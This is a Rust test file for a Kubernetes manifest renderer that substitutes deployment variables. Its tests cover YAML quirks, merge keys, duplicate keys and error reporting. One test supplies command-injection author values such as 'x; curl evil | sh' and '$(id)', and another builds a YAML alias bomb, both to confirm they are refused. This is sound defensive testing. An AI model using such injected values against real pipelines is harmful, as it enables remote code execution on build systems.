//! The whole renderer: a team's folder with every oddity that such folders have.

mod hostile;
mod images;
mod properties;

use std::path::Path;

use serde_json::{Value, json};

use super::*;

fn render_input(files: &SourceFiles, input: &VariableInput) -> Result<Rendered, Vec<Finding>> {
    render(files, &Variables::new(input.clone()), &examples::policy(input))
}

fn preview(text: &str) -> Result<Rendered, Vec<Finding>> {
    render_input(&examples::file(text), &examples::preview())
}

/// The rendered `data` of an object. A `LimitRange`, because no rule restricts its `data`.
fn data(lines: &str) -> Value {
    let text = format!("apiVersion: v1\nkind: LimitRange\nmetadata: {{name: x}}\ndata:\n{lines}");
    let rendered = preview(&text).unwrap();
    rendered.objects().next().unwrap().document["data"].clone()
}

fn messages(result: Result<Rendered, Vec<Finding>>) -> Vec<String> {
    result.unwrap_err().iter().map(ToString::to_string).collect()
}

fn oddities() -> SourceFiles {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/render/fixtures/oddities");
    SourceFiles::read(&folder, "oddities").unwrap()
}

/// The notes, and the objects of each stage as they are applied.
fn report(rendered: &Rendered) -> Value {
    let stages: Vec<Vec<&Value>> =
        rendered.stages.iter().map(|stage| stage.iter().map(|object| &object.document).collect()).collect();
    let notes: Vec<String> = rendered.notes.iter().map(ToString::to_string).collect();
    json!({"notes": notes, "stages": stages})
}

#[test]
fn folder_with_every_oddity_is_rendered() {
    // Sorted, because another crate of the build may enable serde_json's `preserve_order`.
    insta::with_settings!({sort_maps => true}, {
        let rendered = render_input(&oddities(), &examples::preview()).unwrap();
        insta::assert_yaml_snapshot!("oddities_preview", report(&rendered));
        let rendered = render_input(&oddities(), &examples::production()).unwrap();
        insta::assert_yaml_snapshot!("oddities_production", report(&rendered));
    });
}

#[test]
fn windows_line_ends_change_nothing() {
    let unix = oddities();
    assert!(unix.all().iter().any(|file| file.content.contains("\r\n")), "the fixture must keep its line ends");
    let windows = unix
        .all()
        .iter()
        .map(|file| SourceFile { content: file.content.replace("\r\n", "\n").replace('\n', "\r\n"), ..file.clone() });
    let windows = SourceFiles::new(windows.collect());
    let input = examples::preview();
    assert_eq!(render_input(&unix, &input), render_input(&windows, &input));
}

#[test]
fn byte_order_mark_is_ignored() {
    assert!(preview("\u{feff}apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: x}\n").is_ok());
}

#[test]
fn variable_is_a_number_only_as_a_whole_plain_scalar() {
    assert_eq!(
        data(concat!(
            "  plain: $KUBE_DEPLOY_ID\n",
            "  braced: ${PR_NUMBER}\n",
            "  quoted: \"$KUBE_DEPLOY_ID\"\n",
            "  text: pr-$PR_NUMBER\n",
            "  twice: $PR_NUMBER$PR_NUMBER\n",
            "  commit: $GITHUB_SHA\n",
            "  tagged: !!str $PR_NUMBER\n",
        )),
        json!({
            "plain": 20_000_000,
            "braced": 123,
            "quoted": "20000000",
            "text": "pr-123",
            "twice": "123123",
            "commit": "12345678",
            "tagged": "123",
        })
    );
}

#[test]
fn quoted_scalar_stays_a_string() {
    assert_eq!(
        data("  a: 'true'\n  b: \"0644\"\n  c: |\n    123\n  d: yes\n  e: 0644\n  f: !!str yes\n  on: x\n"),
        json!({"a": "true", "b": "0644", "c": "123\n", "d": true, "e": 420, "f": "yes", "true": "x"})
    );
}

#[test]
fn keys_win_over_those_merged_before_them() {
    let text = concat!(
        "  one: &one {a: 1, b: 1}\n",
        "  two: &two {b: 2, c: 2}\n",
        "  all: {<<: [*one, *two], a: 0}\n",
        "  before: {a: 0, <<: *one}\n",
        "  text: {\"<<\": x}\n",
    );
    let data = data(text);
    assert_eq!(data["all"], json!({"a": 0, "b": 1, "c": 2}));
    assert_eq!(data["before"], json!({"a": 1, "b": 1}), "as kubectl reads it");
    assert_eq!(data["text"], json!({"<<": "x"}));
}

#[test]
fn merge_that_replaces_a_written_key_is_a_warning() {
    let text = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  labels: {a: '0', <<: {a: '1'}}\n  annotations: {<<: {a: '1'}, a: '0'}\n";
    let notes: Vec<_> = preview(text).unwrap().notes.iter().map(Finding::to_string).collect();
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(
        notes[0].starts_with("web/core/app.yaml:5: warning: metadata.labels: replaces the `a` of line 5"),
        "{notes:?}"
    );
}

#[test]
fn last_of_duplicate_keys_counts_with_a_warning() {
    let text =
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  pr-123: a\n  $KUBE_NS: b\n  c: d\n  c: d\n";
    let rendered = preview(text).unwrap();
    let config = rendered.objects().find(|object| object.kind() == "ConfigMap").unwrap();
    assert_eq!(config.document["data"], json!({"pr-123": "b", "c": "d"}));
    let notes: Vec<_> = rendered.notes.iter().map(Finding::to_string).collect();
    let expected =
        "web/core/app.yaml:6: warning: data.pr-123: is there twice, also in line 5: the last counts, as with kubectl";
    assert_eq!(notes, [expected], "the same value twice says nothing");
}

#[test]
fn unknown_reserved_name_is_only_a_warning_in_a_script() {
    let text = concat!(
        "apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\n",
        "spec: {template: {spec: {containers: [{name: x,\n",
        "  image: $KUBE_DEPLOYMENT_IMAG,\n",
        "  args: ['echo $KUBE_MINE $DOPPLER_MINE'],\n",
        "  env: [{name: A, value: $MINE}]}]}}}\n",
    );
    let messages = messages(preview(text));
    for (message, expected) in messages.iter().zip([
        "web/core/app.yaml:5: spec.template.spec.containers[0].image: `$KUBE_DEPLOYMENT_IMAG` is not a declared variable: \
         the nearest known name is `$KUBE_DEPLOYMENT_IMAGE`",
        "web/core/app.yaml:6: warning: spec.template.spec.containers[0].args[0]: `$KUBE_MINE` is not",
        "web/core/app.yaml:6: warning: spec.template.spec.containers[0].args[0]: `$DOPPLER_MINE` is not",
        "web/core/app.yaml:7: warning: spec.template.spec.containers[0].env[0].value: `$MINE` is not a declared variable: add it \
         to the app file's `variables`, `push_variables` or `named_images`; it stays as it is",
    ]) {
        assert!(message.starts_with(expected), "{message}");
    }
    assert_eq!(messages.len(), 4, "{messages:#?}");
}

#[test]
fn variable_beside_other_characters_is_a_number_where_the_field_is_one() {
    let text = "apiVersion: v1\nkind: Service\nmetadata: {name: x}\nspec:\n  ports: [{port: ${PRE}80, targetPort: ${PRE}81}]\n";
    let mut input = examples::preview();
    input.extra.insert("PRE".to_owned(), "80".to_owned());
    let rendered = render_input(&examples::file(text), &input).unwrap();
    let service = rendered.objects().find(|object| object.kind() == "Service").unwrap();
    assert_eq!(service.document["spec"]["ports"], serde_json::json!([{"port": 8080, "targetPort": 8081}]));
}

#[test]
fn variable_in_braces_may_stand_in_a_flow_mapping() {
    let text = concat!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, labels: {app: ${KUBE_APP}, \"b-${KUBE_ENV}\": c}}\n",
        "data: {a: ${KUBE_NS}, b: \"{${KUBE_NS}}\", c: '${NOT_DECLARED}', d: '${A:-b} ${} $\\{x}'}\n",
        "binaryData:\n  # ${KUBE_NS}\n",
    );
    let rendered = preview(text).unwrap();
    let map = rendered.objects().find(|object| object.kind() == "ConfigMap").unwrap();
    let expected = json!({"a": "pr-123", "b": "{pr-123}", "c": "${NOT_DECLARED}", "d": "${A:-b} ${} $\\{x}"});
    assert_eq!(map.document["data"], expected);
    assert_eq!(map.document["metadata"]["labels"]["app"], "web-pr-123");
    let messages = messages(preview("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${KUBE_APP}\n"));
    assert!(messages.iter().all(|message| message.is_ascii()), "{messages:?}");
}

#[test]
fn json_objects_one_after_the_other_are_documents() {
    let object =
        |name: &str| format!(r#"{{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {{"name": "{name}"}}}}"#);
    let (a, b, c) = (object("a"), object("b"), object("c"));
    for text in [
        format!("{a}\n{b}\n  {c}\n"),
        format!("{a}{b} {c}"),
        format!("{a}\n{b}\n---\n{c}"),
        format!("\n {a}\n\n{b}\n{c}"),
    ] {
        let rendered = preview(&text).unwrap();
        let objects = rendered.objects().filter(|object| object.kind() == "ConfigMap");
        let names: Vec<_> = objects.map(super::Object::name).collect();
        assert_eq!(names, ["a", "b", "c"], "{text}");
    }
    let messages = messages(preview(&format!("{a}\n{b}\n{{\"kind\": \"Pod\"}}\n")));
    assert!(messages.iter().all(|message| message.starts_with("web/core/app.yaml:3: ")), "{messages:?}");
}

#[test]
fn another_version_of_a_kind_is_the_same_object() {
    let autoscaler = |version: &str, most: u8| {
        format!(
            "apiVersion: autoscaling/{version}\nkind: HorizontalPodAutoscaler\nmetadata: {{name: x}}\n\
             spec: {{maxReplicas: {most}, scaleTargetRef: {{apiVersion: apps/v1, kind: Deployment, name: x}}}}\n"
        )
    };
    let rendered = preview(&format!("{}---\n{}", autoscaler("v1", 3), autoscaler("v2", 9))).unwrap();
    let autoscalers = rendered.objects().filter(|object| object.kind() == "HorizontalPodAutoscaler");
    let maximum: Vec<_> = autoscalers.map(|object| object.document["spec"]["maxReplicas"].clone()).collect();
    assert_eq!(maximum, [9]);
    assert!(rendered.notes.iter().any(|note| note.message.contains("is defined again")), "{:?}", rendered.notes);
}

#[test]
fn warnings_about_unknown_names_hide_no_error() {
    let many =
        |text: &str| (0..250).map(|index| format!("{{name: A{index}, value: {text}}}")).collect::<Vec<_>>().join(", ");
    for text in ["$MINE", "'${KUBE_ENV:-default}'"] {
        let manifest = format!(
            "apiVersion: batch/v1\nkind: Job\nmetadata: {{name: x}}\nspec: {{template: {{spec: {{containers: [{{name: x, \
             env: [{}],\n  image: $OTHER}}]}}}}}}\n",
            many(text)
        );
        let messages = messages(preview(&manifest));
        assert!(messages.iter().any(|message| message.contains("`$OTHER` is not a declared variable")), "{text}");
    }
}

#[test]
fn form_that_only_a_shell_expands_stays_and_is_a_warning() {
    let config = |value: &str| {
        let text = format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x}}\ndata: {{A: '{value}'}}\n");
        let rendered = preview(&text).unwrap();
        let notes: Vec<String> = rendered.notes.iter().map(ToString::to_string).collect();
        (rendered.objects().next().unwrap().document["data"]["A"].clone(), notes)
    };
    for (value, advice) in [("${KUBE_X:-default}", ""), ("${KUBE_NS:-default}", ": write `${KUBE_NS}`")] {
        let (text, notes) = config(value);
        let name = value.split(':').next().unwrap();
        let expected = format!(
            "data.A: `{name}…}}` stays as it is: berth replaces `$NAME` and `${{NAME}}` only, as envsubst does{advice}"
        );
        assert_eq!(text, value);
        assert!(notes.len() == 1 && notes[0].ends_with(&expected), "{notes:?}");
    }
    assert_eq!(config("${MINE:-default}"), (json!("${MINE:-default}"), Vec::new()), "a script's own name");
    let refused = messages(preview("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: 'x-${MINE:-default}'}\n"));
    assert!(refused.iter().any(|message| message.contains("`${MINE…}` stays as it is")), "{refused:?}");
}

#[test]
fn variables_of_an_object_that_is_left_out_are_not_checked() {
    let config = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n";
    for (head, text) in [
        ("secrets.doppler.com/v1alpha1\nkind: DopplerSecret", "spec: {project: $DOPPLER_MINE}"),
        ("v1\nkind: Namespace", "spec: {finalizers: ['$KUBE_MINE']}"),
        (
            "rbac.authorization.k8s.io/v1\nkind: Role",
            "rules: [{apiGroups: [''], resources: [$KUBE_MINE], verbs: [get]}]",
        ),
    ] {
        let left_out = format!("apiVersion: {head}\nmetadata: {{name: $KUBE_NS}}\n{text}\n---\n{config}");
        let rendered = preview(&left_out).unwrap_or_else(|found| panic!("{head}: {found:?}"));
        assert!(!rendered.notes.iter().any(|note| note.message.contains("declared variable")), "{:?}", rendered.notes);
        let kinds: Vec<_> = rendered.objects().map(|object| object.kind().to_owned()).collect();
        assert_eq!(kinds, ["ConfigMap", "Job"], "the second one is the example's");
    }
}

#[test]
fn unchecked_value_in_a_command_is_refused() {
    let mut input = examples::preview();
    let files = examples::file(concat!(
        "apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\nspec: {template: {spec: {containers: [{name: x,\n",
        "  command: [sh, -c, 'echo $GITHUB_ACTOR'],\n",
        "  env: [{name: ACTOR, value: $GITHUB_ACTOR}]}]}}}\n",
    ));
    for author in ["octocat", "dependabot[bot]"] {
        input.author = author.to_owned();
        assert!(render_input(&files, &input).is_ok());
    }
    for author in ["x; curl evil | sh", "$(id)", "a\nb", "`id`", "a b", "a>b"] {
        input.author = author.to_owned();
        let messages = messages(render_input(&files, &input));
        assert!(messages[0].starts_with("web/core/app.yaml:5: spec.template.spec.containers[0].command[2]: the value"));
        assert_eq!(messages.len(), 1);
    }
}

#[test]
fn number_of_findings_is_bounded() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\n---\n".repeat(900);
    let messages = messages(preview(&text));
    assert_eq!(messages.len(), 201);
    assert_eq!(messages[200], "and 700 more");
}

#[test]
fn missing_conditional_name_is_reported_with_its_reason() {
    let mut input = examples::preview();
    input.doppler_managed_secret = None;
    let files = examples::file("apiVersion: v1\nkind: Secret\nmetadata:\n  name: $DOPPLER_MANAGED_SECRET_NAME\n");
    let messages = messages(render_input(&files, &input));
    assert!(messages[0].contains("the app file has no `secrets`"), "{messages:?}");
}

#[test]
fn every_error_of_every_document_is_reported_at_once() {
    let text = "a: [\n---\nkind: Pod\napiVersion: v1\nmetadata: {name: a}\n---\n- 1\n---\nb: \"\n";
    let messages = messages(preview(text));
    assert_eq!(messages.len(), 4, "{messages:#?}");
}

#[test]
fn alias_bomb_is_refused() {
    let mut text = String::from("a0: &a0 [xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx]\n");
    for level in 1..30 {
        let aliases = vec![format!("*a{}", level - 1); 10].join(", ");
        text.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
    }
    let messages = messages(preview(&text));
    assert!(messages[0].contains("with its aliases expanded"), "{messages:?}");
}

#[test]
fn lists_of_every_kind_are_flattened() {
    let text = concat!(
        "apiVersion: v1\nkind: List\nitems:\n",
        "- {apiVersion: v1, kind: Service, metadata: {name: a}}\n",
        "- apiVersion: apps/v1\n  kind: DeploymentList\n  items:\n  - metadata: {name: b}\n",
        "- {apiVersion: v1, kind: Pod, metadata: {name: c}}\n",
    );
    let messages = messages(preview(text));
    assert_eq!(messages.len(), 1);
    assert!(messages[0].starts_with("web/core/app.yaml:9: items[2].kind: no app can have a Pod"), "{messages:?}");
    let rendered = preview(&text.replace("kind: Pod", "kind: Secret")).unwrap();
    let names: Vec<_> = rendered.objects().map(Object::name).collect();
    assert_eq!(names, ["a", "c", "b", "pushed"]);
}

#[test]
fn duplicate_object_is_replaced_by_the_last_one() {
    let object =
        |value: &str| format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x}}\ndata: {{a: {value}}}\n");
    let rendered = preview(&format!("{}---\n{}", object("first"), object("last"))).unwrap();
    let configs = rendered.objects().filter(|object| object.kind() == "ConfigMap");
    assert_eq!(configs.map(|object| &object.document["data"]["a"]).collect::<Vec<_>>(), ["last"]);
    assert_eq!(rendered.notes.len(), 1);
}

#[test]
fn content_hash_changes_with_every_input() {
    let files = examples::file("a: 1");
    let hash = content_hash(b"app", &files);
    assert_eq!(hash, content_hash(b"app", &examples::file("a: 1")));
    assert_eq!(hash.len(), 64);
    assert_ne!(hash, content_hash(b"app2", &files));
    assert_ne!(hash, content_hash(b"app", &examples::file("a: 2")));
}
